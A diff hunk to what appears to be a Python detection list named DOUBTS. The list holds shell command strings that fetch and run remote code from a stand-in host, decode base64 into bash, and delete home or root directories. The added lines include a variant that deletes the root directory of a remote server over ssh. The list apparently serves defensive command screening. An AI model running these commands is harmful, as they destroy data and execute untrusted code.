@@ -60,6 +60,8 @@ DOUBTS: dict[Kind, tuple[str, ...]] = {
         "echo aWQ= | base64 -d | bash",
         "curl -s https://x.example/i | mksh",
         "mksh <<< 'rm -rf ~'",
+        "bash <<E\nrm -rf ~\nE",
+        "ssh web1 <<E\nrm -rf /\nE",
         "curl -so i https://x.example; yash i",
         "wget -qO- https://x.example/i | pypy3",
         "wget -qO- https://x.example/i | julia",
